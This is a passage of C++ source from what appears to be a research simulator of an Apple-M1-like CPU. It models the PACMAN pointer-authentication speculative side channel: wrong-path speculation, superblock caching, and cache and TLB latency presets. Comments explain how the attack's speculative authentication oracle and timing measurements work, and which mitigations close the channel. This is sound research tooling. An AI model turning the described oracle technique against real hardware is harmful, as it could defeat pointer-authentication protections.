    pc_ += isa::InstBytes;
    ++sbStats_.fallbackExits;
    return executed;

  sb_bail:
    // pc_ still points at the mispredicted branch; the interpreter
    // re-executes it from scratch (no effect has happened yet).
    ++sbStats_.fallbackExits;
    return executed;

  sb_fault:
    *exited = true;
    return executed;
#else
    for (;;) {
        switch (op->kind) {
          case SbOpKind::Alu:
            ++stats_.instsRetired;
            ++executed;
            execAlu(op->inst);
            pc_ += isa::InstBytes;
            break;
          case SbOpKind::Load:
          case SbOpKind::Store: {
            ++stats_.instsRetired;
            ++executed;
            bool ran = false;
            if (mode == SbMode::Replay) {
                if (cursor < trace.memOps.size() &&
                    trace.memOps[cursor].opIdx ==
                        uint16_t(op - sb.ops.data()) &&
                    execMemReplay(op->inst, trace.memOps[cursor])) {
                    ++cursor;
                    ++sbStats_.traceOpsReplayed;
                    ran = true;
                } else {
                    mode = SbMode::Live; // soft miss: live for rest
                    ++trace.softMisses;
                    ++sbStats_.traceSoftMisses;
                }
            }
            if (!ran && mode == SbMode::Record) {
                if (!execMemRecord(op->inst, status,
                                   uint16_t(op - sb.ops.data()), sb)) {
                    *exited = true;
                    return executed;
                }
                ran = true;
            }
            if (!ran && !execMem(op->inst, status)) {
                *exited = true;
                return executed;
            }
            if (op->kind == SbOpKind::Store &&
                mem_->phys().pageGen(sb.pa) != sb.gen) {
                pc_ += isa::InstBytes;
                ++sbStats_.fallbackExits;
                return executed;
            }
            pc_ += isa::InstBytes;
            break;
          }
          case SbOpKind::Pac:
            ++stats_.instsRetired;
            ++executed;
            if (!execPac(op->inst, status)) {
                *exited = true;
                return executed;
            }
            pc_ += isa::InstBytes;
            break;
          case SbOpKind::Branch:
            ++stats_.instsRetired;
            ++executed;
            pc_ = execBranchDirect(op->inst);
            break;
          case SbOpKind::Mrs:
            ++stats_.instsRetired;
            ++executed;
            if (!execMrs(op->inst, status)) {
                *exited = true;
                return executed;
            }
            pc_ += isa::InstBytes;
            break;
          case SbOpKind::Msr:
            ++stats_.instsRetired;
            ++executed;
            if (!execMsr(op->inst, status)) {
                *exited = true;
                return executed;
            }
            pc_ += isa::InstBytes;
            break;
          case SbOpKind::Barrier:
            ++stats_.instsRetired;
            ++executed;
            serialize(cfg_.isbDrain);
            pc_ += isa::InstBytes;
            break;
          case SbOpKind::BranchCond: {
            const isa::Inst &bi = op->inst;
            const bool actual = condActual(bi);
            // Entry op only — later branches are peeked below before
            // their fetch is replayed.
            if (predictor_.predict(pc_) != actual) {
                ++sbStats_.fallbackExits;
                return executed;
            }
            ++stats_.instsRetired;
            ++executed;
            ++stats_.branches;
            predictor_.update(pc_, actual);
            pc_ = actual ? pc_ + uint64_t(bi.imm)
                         : pc_ + isa::InstBytes;
            break;
          }
        }
        if (++op == end || executed >= budget ||
            pc_ != (va_base | Addr(op->pageOff)))
            return executed;
        if (op->kind == SbOpKind::BranchCond &&
            predictor_.predict(pc_) != condActual(op->inst)) {
            ++sbStats_.fallbackExits;
            return executed;
        }
        pa = pa_base | Addr(op->pageOff);
        if (++fetchGroup_ >= cfg_.fetchWidth) {
            fetchGroup_ = 0;
            ++cycle_;
        }
        itlb.rehit(way);
        if ((pa >> line_shift) == cur_line) {
            mem_->l1i().rehit(line);
        } else {
            cur_line = pa >> line_shift;
            const uint64_t lat = mem_->fetchLineAccess(pa, &line);
            if (lat > l1_lat)
                cycle_ += lat - l1_lat;
        }
    }
#endif
}

void
Core::speculate(Addr pc, uint64_t start, uint64_t deadline,
                SpecContext &ctx, unsigned &rob_budget, unsigned depth)
{
    if (depth > MaxSpecDepth)
        return;

    uint64_t fetch_t = start;
    unsigned group = 0;
    const uint64_t l1_lat = mem_->config().lat.l1Hit;

    while (true) {
        if (fetch_t >= deadline || rob_budget == 0)
            return;

        const FetchedInst f = fetch(pc, true);
        if (!f.ok) {
            // Speculative fetch fault (e.g. fetching through a
            // poisoned authenticated pointer): no architectural
            // consequence, the wrong-path front end simply stalls.
            ++stats_.specFaultsSuppressed;
            return;
        }
        if (f.fetchLatency > l1_lat)
            fetch_t += f.fetchLatency - l1_lat;
        if (fetch_t >= deadline)
            return;

        --rob_budget;
        ++stats_.wrongPathInsts;
        if (++group >= cfg_.fetchWidth) {
            group = 0;
            ++fetch_t;
        }

        const Inst &inst = f.inst;
        if (traceHook_)
            traceHook_(TraceRecord{pc, inst, el_, true, fetch_t});
        Addr next_pc = pc + isa::InstBytes;

        switch (isa::instClass(inst.op)) {
          case InstClass::Alu: {
            uint64_t issue = fetch_t + 1;
            bool poison = false;
            bool taint = false;
            auto use = [&](isa::RegIndex r) {
                issue = std::max(issue, ctx.ready[r]);
                poison |= ctx.poison[r];
                taint |= ctx.taint[r];
            };
            if (isa::readsRn(inst))
                use(inst.rn);
            if (isa::readsRm(inst))
                use(inst.rm);
            if (isa::readsRdAsSource(inst))
                use(inst.rd);
            const uint64_t lat =
                inst.op == Opcode::MUL ? cfg_.mulLat : cfg_.aluLat;
            const AluOut out = aluExec(inst, ctx.regs[inst.rd],
                                       ctx.regs[inst.rn],
                                       ctx.regs[inst.rm]);
            if (out.writes) {
                ctx.regs[inst.rd] = out.value;
                ctx.ready[inst.rd] = issue + lat;
                ctx.poison[inst.rd] = poison;
                ctx.taint[inst.rd] = taint;
            }
            if (out.setsFlags) {
                ctx.flags = out.flags;
                ctx.flagsReady = issue + lat;
                ctx.flagsPoison = poison;
            }
            break;
          }

          case InstClass::Load:
          case InstClass::Store: {
            const bool is_load =
                isa::instClass(inst.op) == InstClass::Load;
            uint64_t issue = fetch_t + 1;
            bool poison = ctx.poison[inst.rn];
            bool taint = ctx.taint[inst.rn];
            issue = std::max(issue, ctx.ready[inst.rn]);
            if (regOffset(inst.op)) {
                issue = std::max(issue, ctx.ready[inst.rm]);
                poison |= ctx.poison[inst.rm];
                taint |= ctx.taint[inst.rm];
            }
            if (!is_load) {
                issue = std::max(issue, ctx.ready[inst.rd]);
                poison |= ctx.poison[inst.rd];
            }
            if (is_load)
                ctx.poison[inst.rd] = true; // until proven delivered

            const bool blocked =
                !cfg_.speculativeMemIssue || poison ||
                (cfg_.pacTaint && taint) || issue >= deadline;
            if (!blocked) {
                const Addr va =
                    ctx.regs[inst.rn] +
                    (regOffset(inst.op) ? ctx.regs[inst.rm]
                                        : uint64_t(inst.imm));
                const auto res = mem_->access(
                    is_load ? mem::AccessKind::Load
                            : mem::AccessKind::Store,
                    va, el_, true);
                ++stats_.wrongPathMemOps;
                if (res.fault != mem::Fault::None) {
                    ++stats_.specFaultsSuppressed;
                } else if (is_load) {
                    // Speculative loads read committed memory; stores
                    // modulate the hierarchy but never write data.
                    ctx.regs[inst.rd] =
                        mem_->loadValue(res, va, memSize(inst.op));
                    ctx.ready[inst.rd] = issue + res.latency;
                    ctx.poison[inst.rd] = false;
                    ctx.taint[inst.rd] = false;
                }
            }
            break;
          }

          case InstClass::BranchCond: {
            const Addr taken_target = pc + uint64_t(inst.imm);
            const bool predicted = predictor_.predict(pc);
            const Addr pred_target =
                predicted ? taken_target : next_pc;
            bool actual;
            bool op_poison;
            uint64_t op_ready;
            if (inst.op == Opcode::BCOND) {
                actual = isa::condHolds(inst.cond, ctx.flags);
                op_poison = ctx.flagsPoison;
                op_ready = ctx.flagsReady;
            } else {
                const bool zero = ctx.regs[inst.rd] == 0;
                actual = inst.op == Opcode::CBZ ? zero : !zero;
                op_poison = ctx.poison[inst.rd];
                op_ready = ctx.ready[inst.rd];
            }
            const uint64_t resolve =
                std::max(fetch_t + 1, op_ready) + cfg_.branchResolveLat;
            if (op_poison || resolve >= deadline) {
                // Resolves after the outer squash (or never):
                // prediction carries the wrong path to its end.
                next_pc = pred_target;
                break;
            }
            const Addr actual_target = actual ? taken_target : next_pc;
            if (predicted == actual) {
                next_pc = actual_target;
                break;
            }
            // Nested misprediction inside the wrong path. The child
            // runs on its own pool slot seeded with a copy of this
            // context, leaving ours untouched across the call.
            SpecContext &nested = specCtx_[depth + 1];
            nested = ctx;
            if (cfg_.eagerNestedSquash) {
                speculate(pred_target, fetch_t + 1, resolve, nested,
                          rob_budget, depth + 1);
                fetch_t = resolve + cfg_.redirectPenalty;
                group = 0;
                next_pc = actual_target;
                break;
            }
            // Lazy squash: the inner branch never becomes oldest, so
            // its wrong path runs until the outer branch resolves and
            // its computed target is never fetched.
            speculate(pred_target, fetch_t + 1, deadline, nested,
                      rob_budget, depth + 1);
            return;
          }

          case InstClass::BranchDirect: {
            if (inst.op == Opcode::BL) {
                ctx.regs[isa::LR] = pc + isa::InstBytes;
                ctx.ready[isa::LR] = fetch_t + 1;
                ctx.poison[isa::LR] = false;
                ctx.taint[isa::LR] = false;
            }
            next_pc = pc + uint64_t(inst.imm);
            break;
          }

          case InstClass::BranchIndirect: {
            const auto predicted = btb_.lookup(pc);
            uint64_t target = ctx.regs[inst.rn];
            bool tgt_poison = ctx.poison[inst.rn];
            bool tgt_taint = cfg_.pacTaint && ctx.taint[inst.rn];
            uint64_t target_ready = ctx.ready[inst.rn];
            if (isa::isAuthBranch(inst.op)) {
                const auto key = pacKey(isa::pacKeyOf(inst.op));
                target = isa::authPointer(target, ctx.regs[inst.rm],
                                          key);
                tgt_poison |= ctx.poison[inst.rm];
                target_ready = std::max(target_ready,
                                        ctx.ready[inst.rm]) +
                               cfg_.pacLat;
                // Under FPAC the speculative auth failure is a
                // suppressed fault: the target never materializes.
                if (cfg_.fpac && !isa::isCanonical(target)) {
                    ++stats_.specFaultsSuppressed;
                    tgt_poison = true;
                }
                // STT-style taint applies to the internal auth
                // output as well.
                tgt_taint |= cfg_.pacTaint;
            }
            const uint64_t resolve =
                std::max(fetch_t + 1, target_ready) +
                cfg_.branchResolveLat;
            if (inst.op == Opcode::BLR ||
                inst.op == Opcode::BLRAA) {
                ctx.regs[isa::LR] = pc + isa::InstBytes;
                ctx.ready[isa::LR] = fetch_t + 1;
                ctx.poison[isa::LR] = false;
                ctx.taint[isa::LR] = false;
            }
            if (predicted) {
                if (tgt_poison || tgt_taint || resolve >= deadline) {
                    // Target unavailable before the outer squash:
                    // the BTB prediction carries the wrong path.
                    next_pc = *predicted;
                    break;
                }
                if (*predicted == target) {
                    next_pc = target;
                    break;
                }
                SpecContext &nested = specCtx_[depth + 1];
                nested = ctx;
                if (cfg_.eagerNestedSquash) {
                    // This is the instruction-PACMAN moment: execute
                    // down the stale BTB target until the aut output
                    // resolves, then squash eagerly and refetch from
                    // the verified pointer while still speculative.
                    speculate(*predicted, fetch_t + 1, resolve, nested,
                              rob_budget, depth + 1);
                    fetch_t = resolve + cfg_.redirectPenalty;
                    group = 0;
                    next_pc = target;
                    break;
                }
                speculate(*predicted, fetch_t + 1, deadline, nested,
                          rob_budget, depth + 1);
                return;
            }
            // No BTB entry: fetch stalls until the target computes.
            if (tgt_poison || tgt_taint || resolve >= deadline)
                return;
            fetch_t = resolve + cfg_.redirectPenalty;
            group = 0;
            next_pc = target;
            break;
          }

          case InstClass::PacSign:
          case InstClass::PacAuth: {
            uint64_t issue = std::max(fetch_t + 1, ctx.ready[inst.rd]);
            bool poison = ctx.poison[inst.rd];
            uint64_t value;
            if (inst.op == Opcode::XPAC) {
                value = isa::stripPac(ctx.regs[inst.rd]);
            } else {
                issue = std::max(issue, ctx.ready[inst.rn]);
                poison |= ctx.poison[inst.rn];
                const auto key = pacKey(isa::pacKeyOf(inst.op));
                const uint64_t mod = ctx.regs[inst.rn];
                value = isa::isPacSign(inst.op)
                            ? isa::signPointer(ctx.regs[inst.rd], mod,
                                               key)
                            : isa::authPointer(ctx.regs[inst.rd], mod,
                                               key);
            }
            // Under FPAC a speculative authentication failure is a
            // suppressed fault: the result never becomes available,
            // so dependents (the transmission op) cannot issue — the
            // same signal the poisoned-pointer path produces.
            if (cfg_.fpac && isa::isPacAuth(inst.op) &&
                !isa::isCanonical(value)) {
                ++stats_.specFaultsSuppressed;
                poison = true;
            }
            ctx.regs[inst.rd] = value;
            ctx.ready[inst.rd] = issue + cfg_.pacLat;
            ctx.poison[inst.rd] = poison;
            // STT-style mitigation: PA outputs are tainted and may
            // not speculatively form addresses.
            ctx.taint[inst.rd] = cfg_.pacTaint;
            if (cfg_.autFence && isa::isPacAuth(inst.op)) {
                // Fence after aut: nothing younger executes under
                // speculation.
                return;
            }
            break;
          }

          case InstClass::System:
            if (inst.op == Opcode::MRS) {
                // Counter reads are harmless to execute speculatively.
                bool undef = false;
                const uint64_t issue = fetch_t + 1;
                const uint64_t value =
                    sysregRead(inst.sysreg, issue, &undef);
                if (undef) {
                    ctx.poison[inst.rd] = true;
                } else {
                    ctx.regs[inst.rd] = value;
                    ctx.ready[inst.rd] = issue + cfg_.mrsLat;
                    ctx.poison[inst.rd] = false;
                    ctx.taint[inst.rd] = false;
                }
                break;
            }
            // MSR/SVC/ERET/HLT/BRK do not execute speculatively.
            return;

          case InstClass::Barrier:
            // ISB/DSB serialize: younger wrong-path work never issues.
            return;
        }

        pc = next_pc;
    }
}

} // namespace pacman::cpu
