#include "decode_cache.hh"

namespace pacman::cpu
{

DecodeCache::DecodeCache() : entries_(NumEntries), victim_(NumSets, 0)
{
}

void
DecodeCache::flush()
{
    for (Entry &e : entries_)
        e.pa = NoPa;
}

} // namespace pacman::cpu
