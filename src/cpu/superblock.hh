/**
 * @file
 * Superblock cache for the committed fast path.
 *
 * The decode cache (cpu/decode_cache.hh) made decode free; BENCH_PR5
 * shows per-instruction fetch/dispatch bookkeeping is now the wall
 * (~20 guest MIPS, decode hit rate 0.9999996). A *superblock* is the
 * next rung: a straight-line run of already-decoded instructions,
 * discovered at a committed fetch, cached keyed by physical address,
 * and executed by a threaded dispatch loop (Core::runSuperblock) that
 * skips the per-instruction fetch/decode machinery while replaying its
 * exact microarchitectural side effects (iTLB hit bookkeeping, L1I
 * line touches and real line fills on crossings, fetch-group pacing,
 * front-end stalls). The cycle-accurate interpreter remains the
 * reference: speculation windows, trace hooks, ineligible opcodes,
 * and every block exit fall back to it, and the fast/slow equivalence
 * suite (tests/runner/test_fastpath_equiv.cc) proves bit-identical
 * architectural state, cycle counts and cache/TLB counters.
 *
 * A superblock is a *trace*, not just a fall-through run: discovery
 * follows unconditional direct branches (B/BL) to their targets and
 * conditional branches along their likely direction (backward taken —
 * a loop back-edge — forward not-taken), so a hot loop unrolls into
 * one block covering many iterations. Execution of a conditional
 * branch first peeks the predictor and the actual outcome with no
 * side effect at all: a mispredict would run the full speculation
 * machinery, so the block bails out and the interpreter re-executes
 * the branch from scratch. A correctly predicted branch retires
 * inside the block with the interpreter's exact effect (branch count,
 * predictor update, no cycle penalty), and execution continues while
 * the resolved direction matches the trace. MRS/MSR and barriers are
 * also in-block ops (their serialization is a pure function of the
 * core's completion clock), so the attack's timer-read measurement
 * sequences (mrs/isb/ldr/isb/mrs) do not fragment blocks. Discovery
 * still stops at indirect branches (BTB, pointer authentication),
 * EL-changing and run-exiting ops (SVC/ERET/HLT/BRK), undecodable
 * words, any branch leaving the page (one block = one page = one
 * write generation), and the length cap.
 *
 * Coherence is validation-based, exactly like the decode cache:
 *
 *  - Entries carry the PhysMem write generation of their page; every
 *    label is permanently bound to one byte image (writes draw fresh
 *    labels, restores rewind a dirtied page to the captured label
 *    along with the captured bytes), so a match always implies
 *    identical bytes — which lets the superblock cache survive
 *    Machine::restore() unflushed, with pre-capture entries
 *    re-validating after the rewind.
 *  - Guest stores *inside* a running block check the generation after
 *    executing; a change (self-modifying code into the block's own
 *    page) exits the block and resumes interpretation, and the stale
 *    cached block gen-fails on its next lookup.
 *  - The hierarchy's fetch epoch is compared once per dispatch;
 *    flushAll (boot/reset/key rotation) bumps it and drops the whole
 *    cache. Remap/unmap deliberately do not: entries are PA-keyed and
 *    every dispatch translates the fetch VA afresh, so a remapped VA
 *    resolves to a different PA and an unmapped one faults before any
 *    lookup (see MemoryHierarchy::fetchEpoch()).
 */

#ifndef PACMAN_CPU_SUPERBLOCK_HH
#define PACMAN_CPU_SUPERBLOCK_HH

#include <cstdint>
#include <vector>

#include "isa/inst.hh"
#include "isa/pointer.hh"

namespace pacman::mem
{
class PhysMem;
}

namespace pacman::cpu
{

/** Dispatch kind of one superblock op (indexes the threaded-dispatch
 *  label table in Core::runSuperblock). */
enum class SbOpKind : uint8_t
{
    Alu = 0,
    Load = 1,
    Store = 2,
    Pac = 3,        //!< PacSign or PacAuth (opcode disambiguates)
    Branch = 4,     //!< unconditional direct branch (B/BL)
    BranchCond = 5, //!< conditional branch (B.cond/CBZ/CBNZ)
    Mrs = 6,        //!< system-register read
    Msr = 7,        //!< system-register write (self-synchronizing)
    Barrier = 8,    //!< ISB/DSB pipeline drain
};

/**
 * Superblock eligibility: map @p op to its dispatch kind.
 * @return false when the opcode must be interpreted (and therefore
 *         terminates block discovery).
 */
bool sbKindFor(isa::Opcode op, SbOpKind *kind);

/** One pre-decoded instruction inside a superblock. */
struct SuperblockOp
{
    isa::Inst inst;
    SbOpKind kind = SbOpKind::Alu;

    /**
     * Byte offset of this instruction within its page (the trace may
     * jump backward across loop back-edges, so offsets are not
     * sequential). The op's VA/PA are the entry's page bases plus
     * this offset — the whole trace stays on one page.
     */
    uint16_t pageOff = 0;
};

/**
 * A superblock's memoized data-side hierarchy walk (DESIGN.md §4k).
 *
 * On first execution (record mode) the core captures, per committed
 * memory op, the address it resolved and the raw indices of the dTLB
 * way and L1D line it hit — eligible only when *every* data op was an
 * L1-TLB hit + L1D hit to a non-device page (an all-hit walk touches
 * no victim logic, so its replay is insensitive to interleaved LRU
 * refreshes from other code). On later dispatches the core replays
 * each op as Tlb::rehit + Cache::rehit on the recorded entries — the
 * exact hit-path bookkeeping sequence (tick, journal touch, LRU
 * stamp, hit count) the live walk would perform, with the physical
 * address re-derived from the live way's mapping — skipping the
 * translation and tag scans entirely.
 *
 * Validity is guard-based, the same never-reused-label discipline as
 * the decode/superblock caches themselves:
 *
 *  - guards[]: the generation label of every cache/TLB set the trace
 *    touched, captured at record time. Any structural change to a
 *    guarded set (eviction-set prime, noise, fault-injector flush,
 *    snapshot restore past the capture) moves the label and the
 *    trace falls back to the live model and re-records.
 *  - el: blocks never change EL mid-run; pinning the entry EL makes
 *    the recorded permission outcomes (all None) re-apply.
 *  - addrRegMask/regFingerprint: a hash of the entry-live address
 *    registers (those not written earlier in the block). A mismatch
 *    is a *soft* miss — the block runs live but the trace is kept,
 *    re-recording only after several consecutive misses.
 *  - Per-op, replay re-computes the VA from live registers and
 *    requires it to equal the recorded one — the definitive address
 *    guard (the fingerprint is only a fast pre-check); a divergence
 *    mid-block falls back to live execution for the remaining ops,
 *    which is safe because replay applies effects op by op (any
 *    prefix is valid).
 */
struct TimingTrace
{
    enum class State : uint8_t
    {
        None,       //!< never recorded (or dropped; may re-record)
        Recorded,   //!< valid trace, replayable while guards hold
        Ineligible, //!< contains a device op or is pure-ALU: never
                    //!< replayable, don't burn record attempts
    };

    /** One memoized data op. */
    struct MemOp
    {
        uint16_t opIdx = 0;   //!< position in Superblock::ops
        uint32_t way = 0;     //!< raw dTLB way index (Tlb::wayAt)
        uint32_t line = 0;    //!< raw L1D line index (Cache::lineAt)
        isa::Addr va = 0;     //!< address the op resolved at record
    };

    /** Structures a guard entry can name. */
    enum class GuardStruct : uint8_t
    {
        Dtlb,
        L1d,
    };

    /** One guarded set: its generation label at record time. */
    struct Guard
    {
        GuardStruct structId = GuardStruct::Dtlb;
        uint32_t set = 0;
        uint64_t label = 0;
    };

    State state = State::None;
    uint8_t el = 0;            //!< entry EL the trace was recorded at
    uint8_t softMisses = 0;    //!< consecutive fingerprint/VA misses
    uint16_t recordBackoff = 0; //!< dispatches to skip before retrying
                                //!< a failed (non-all-hit) recording
    uint64_t addrRegMask = 0;   //!< entry-live address registers
    uint64_t regFingerprint = 0; //!< hash of those registers at entry
    uint64_t disturbNoise = 0;  //!< hierarchy noise count at record
    uint64_t disturbFlush = 0;  //!< hierarchy flush count at record
    std::vector<MemOp> memOps;
    std::vector<Guard> guards;

    // Transient capture flags, meaningful only between
    // Core::beginTraceRecord and Core::finalizeTraceRecord.
    bool recFailed = false; //!< a data op was not an all-hit access
    bool recDevice = false; //!< ... because it touched a device page

    /** Forget the recording but keep vector capacity (rebuild-free). */
    void
    reset()
    {
        state = State::None;
        softMisses = 0;
        recordBackoff = 0;
        memOps.clear();
        guards.clear();
        recFailed = false;
        recDevice = false;
    }
};

/** A cached single-page trace entered at physical address pa. */
struct Superblock
{
    static constexpr isa::Addr NoPa = ~isa::Addr(0);

    isa::Addr pa = NoPa; //!< entry PA (all ops on the same page)
    uint64_t gen = 0;    //!< page write generation at build time
    std::vector<SuperblockOp> ops;
    TimingTrace trace;   //!< memoized data-side walk (§4k)
};

/**
 * Monotonic fast-path telemetry. Deliberately outside CoreStats and
 * Core::Snapshot: CoreStats rewinds with every per-item replica
 * restore (it is architectural-run bookkeeping), while fleet-facing
 * telemetry (Machine::statsReport, the pacman-oracled METRICS
 * endpoint) needs counters that only ever grow so per-interval deltas
 * stay non-negative. Nothing here feeds timing, fingerprints, or the
 * equivalence dumps.
 */
struct SuperblockStats
{
    uint64_t blocksBuilt = 0;   //!< discovery passes (cache fills)
    uint64_t blockHits = 0;     //!< dispatches served by a cached block
    uint64_t blockInsts = 0;    //!< instructions retired inside blocks
    uint64_t invalidations = 0; //!< stale-generation drops + epoch flushes
    uint64_t fallbackExits = 0; //!< early exits: SMC into the running
                                //!< block, or a conditional branch the
                                //!< predictor gets wrong (speculation
                                //!< belongs to the interpreter)

    // Monotonic mirrors of CoreStats::icacheDecode{Hits,Misses},
    // bumped at the same sites; see the struct comment for why the
    // CoreStats copies cannot serve telemetry across restores.
    uint64_t decodeHits = 0;
    uint64_t decodeMisses = 0;

    // --- Timing-trace telemetry (DESIGN.md §4k) ---
    uint64_t tracesRecorded = 0;     //!< successful recordings
    uint64_t traceRecordFailures = 0; //!< aborted: a data op missed,
                                      //!< hit a device page, or the
                                      //!< post-run verification failed
    uint64_t traceReplays = 0;       //!< dispatches served by replay
    uint64_t traceOpsReplayed = 0;   //!< data ops replayed (each one a
                                      //!< skipped full hierarchy walk)
    uint64_t traceGuardBreaks = 0;   //!< set-label guard failures
                                      //!< (sum of the three causes)
    uint64_t traceBreakFlush = 0;    //!< ... fault-injector flush ran
    uint64_t traceBreakNoise = 0;    //!< ... injectNoise ran
    uint64_t traceBreakEviction = 0; //!< ... plain cross-access
                                      //!< eviction (prime/probe etc.)
    uint64_t traceBreakEl = 0;       //!< entry-EL mismatch
    uint64_t traceSoftMisses = 0;    //!< fingerprint/VA/length misses
                                      //!< (ran live, trace kept)
};

/**
 * Two-way set-associative cache of superblocks keyed by entry PA,
 * with the same page-folding index hash and 1-bit-LRU scheme as the
 * decode cache (hot entry PCs repeat at identical page offsets across
 * user trampolines and kernel gadgets).
 */
class SuperblockCache
{
  public:
    SuperblockCache();

    /**
     * Cached block entered at @p pa, or nullptr when absent or stale
     * (the page's write generation moved; the entry is dropped on the
     * spot and counted in @p stats->invalidations).
     */
    Superblock *
    lookup(isa::Addr pa, uint64_t page_gen, SuperblockStats *stats)
    {
        const size_t set = setOf(pa);
        for (unsigned w = 0; w < Ways; ++w) {
            Superblock &b = blocks_[set * Ways + w];
            if (b.pa != pa)
                continue;
            if (b.gen != page_gen) {
                b.pa = Superblock::NoPa;
                ++stats->invalidations;
                return nullptr;
            }
            victim_[set] = uint8_t(w ^ 1);
            return &b;
        }
        return nullptr;
    }

    /**
     * Claim the fill slot for a block entered at @p pa: sets the key,
     * clears the op list (capacity retained — rebuilds are
     * allocation-free once warm) and returns the slot for
     * buildSuperblock() to fill.
     */
    Superblock &
    insertSlot(isa::Addr pa, uint64_t page_gen)
    {
        const size_t set = setOf(pa);
        unsigned pick = victim_[set];
        for (unsigned w = 0; w < Ways; ++w) {
            Superblock &b = blocks_[set * Ways + w];
            if (b.pa == pa || b.pa == Superblock::NoPa) {
                pick = w;
                break;
            }
        }
        victim_[set] = uint8_t(pick ^ 1);
        Superblock &b = blocks_[set * Ways + pick];
        b.pa = pa;
        b.gen = page_gen;
        b.ops.clear();
        b.trace.reset(); // new code, fresh recording eligibility
        return b;
    }

    /**
     * Compare against the hierarchy's fetch epoch; drop everything
     * when it moved (remap/unmap/flushAll — also counted once in
     * @p stats->invalidations).
     */
    void
    syncEpoch(uint64_t epoch, SuperblockStats *stats)
    {
        if (epoch != epoch_) {
            epoch_ = epoch;
            flush();
            ++stats->invalidations;
        }
    }

    /** Drop every block. */
    void flush();

    static constexpr size_t NumBlocks = 2048; //!< total, power of two
    static constexpr unsigned Ways = 2;
    static constexpr size_t NumSets = NumBlocks / Ways;

  private:
    static size_t
    setOf(isa::Addr pa)
    {
        return (size_t(pa >> 2) ^ size_t(pa >> isa::PageShift) ^
                size_t(pa >> (2 * isa::PageShift))) &
               (NumSets - 1);
    }

    std::vector<Superblock> blocks_;
    std::vector<uint8_t> victim_;
    uint64_t epoch_ = 0;
};

/**
 * Discover the superblock trace starting at @p sb.pa: decode from the
 * entry word, following unconditional direct branches to their
 * targets and conditional branches along their likely direction
 * (backward taken, forward not-taken), until an ineligible opcode, an
 * undecodable word, any step leaving the page, or @p max_ops. Reads
 * physical memory functionally (PhysMem::read is const — discovery
 * has no architectural or timing side effect). The caller guarantees
 * the entry instruction itself is eligible, so the result always has
 * at least one op.
 */
void buildSuperblock(Superblock &sb, const mem::PhysMem &phys,
                     unsigned max_ops);

} // namespace pacman::cpu

#endif // PACMAN_CPU_SUPERBLOCK_HH
