/**
 * @file
 * Memory-hierarchy geometry and latency configuration, with presets
 * matching the paper's M1 measurements (Table 2 and Section 7).
 */

#ifndef PACMAN_MEM_CONFIG_HH
#define PACMAN_MEM_CONFIG_HH

#include <cstdint>
#include <string>

namespace pacman::mem
{

/** Geometry of one set-associative structure (cache or TLB). */
struct SetAssocConfig
{
    std::string name;    //!< for traces and stats
    unsigned ways = 1;
    unsigned sets = 1;   //!< must be a power of two
    unsigned lineBytes = 64; //!< ignored by TLBs (page-granular)

    /**
     * Hash the set index (XOR-fold upper line-address bits). Large
     * outer caches (L2/SLC) use hashed/sliced indexing, which is why
     * the paper's Figure 5(b) strides alias the L1D and the TLBs but
     * not the L2: reproduce that by hashing L2/SLC indices.
     */
    bool hashedIndex = false;

    uint64_t
    capacityBytes() const
    {
        return uint64_t(ways) * sets * lineBytes;
    }
};

/** Replacement policies supported by caches and TLBs. */
enum class ReplPolicy
{
    LRU,     //!< true least-recently-used (default)
    Random,  //!< uniform random victim (ablation of P+P sensitivity)
};

/**
 * Latency constants, in core cycles. The totals these compose to are
 * calibrated against the plateaus in the paper's Figure 5 and
 * Figure 7 (~60/80/95/110/115/130 cycles measured with the Apple
 * performance counter, which include ~56 cycles of measurement
 * overhead from the serialized counter-read sequence).
 */
struct LatencyConfig
{
    uint64_t l1Hit = 4;        //!< L1 load-to-use
    uint64_t l2Hit = 24;       //!< L1 miss, L2 hit
    uint64_t slcHit = 45;      //!< L2 miss, system-level cache hit
    uint64_t dram = 90;        //!< full miss
    uint64_t l1TlbMissPenalty = 35;  //!< L1 TLB miss, L2 TLB hit
    uint64_t walkPenalty = 55;       //!< L2 TLB miss, page-table walk
    uint64_t itlbSpillProbe = 8;     //!< iTLB miss served by the dTLB
    uint64_t device = 10;      //!< uncacheable device access (timer)
};

/** Full hierarchy configuration for one core type. */
struct HierarchyConfig
{
    std::string coreType;      //!< "p-core" or "e-core"

    SetAssocConfig l1i;
    SetAssocConfig l1d;        //!< observed (effective) geometry
    SetAssocConfig l2;
    SetAssocConfig slc;

    SetAssocConfig itlb;       //!< per-exception-level L1 iTLB
    SetAssocConfig dtlb;       //!< shared L1 dTLB
    SetAssocConfig l2tlb;      //!< shared L2 TLB

    ReplPolicy replPolicy = ReplPolicy::LRU;
    LatencyConfig lat;

    /**
     * Architectural (register-visible) L1D associativity. The paper's
     * footnote 5 observes conflicts at half the associativity the
     * system registers report; we model the observed geometry but
     * report the architectural value through CCSIDR (Table 2).
     */
    unsigned l1dArchWays = 8;
    unsigned l1dArchSets = 256;

    /**
     * Mitigation hook (Section 9, delay-on-miss): when true,
     * speculative accesses that miss in a TLB do not allocate TLB
     * state (the transmission channel is closed).
     */
    bool delayOnMiss = false;

    /**
     * Back PhysMem with the direct-indexed frame table (fast path).
     * Purely a performance knob: both settings are bit-identical by
     * contract (tests/runner/test_fastpath_equiv.cc). Defaults off in
     * PACMAN_DISABLE_FASTPATH builds so the sanitizer CI leg runs the
     * reference path.
     */
#ifdef PACMAN_DISABLE_FASTPATH
    bool fastMem = false;
#else
    bool fastMem = true;
#endif
};

/** The paper's M1 performance-core hierarchy (Table 2 + Figure 6). */
HierarchyConfig m1PCoreConfig();

/** The M1 efficiency-core hierarchy (Table 2; TLBs not paper-derived). */
HierarchyConfig m1ECoreConfig();

/**
 * E-core latency constants, in victim-core cycles. Used by the core-
 * migration fault: an attacker rescheduled onto an e-core sees every
 * memory level further away (smaller caches, lower clock relative to
 * the fabric), which shifts the whole Figure 7 latency histogram and
 * invalidates a threshold calibrated on the p-core.
 */
LatencyConfig m1ECoreLatency();

} // namespace pacman::mem

#endif // PACMAN_MEM_CONFIG_HH
