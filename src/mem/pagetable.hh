/**
 * @file
 * Flat page table for the single modelled address space.
 *
 * The platform uses a macOS-like linear physical map: a page's
 * physical frame equals its virtual page number (the 48-bit VA space
 * is disjoint between user [bit 47 = 0] and kernel [bit 47 = 1], so
 * frames never collide). Device pages live in a reserved physical
 * window above the 48-bit range.
 *
 * The timing cost of a miss (a 4-level table walk) is modelled in the
 * hierarchy's latency configuration rather than via walker state.
 */

#ifndef PACMAN_MEM_PAGETABLE_HH
#define PACMAN_MEM_PAGETABLE_HH

#include <cstdint>
#include <optional>
#include <unordered_map>

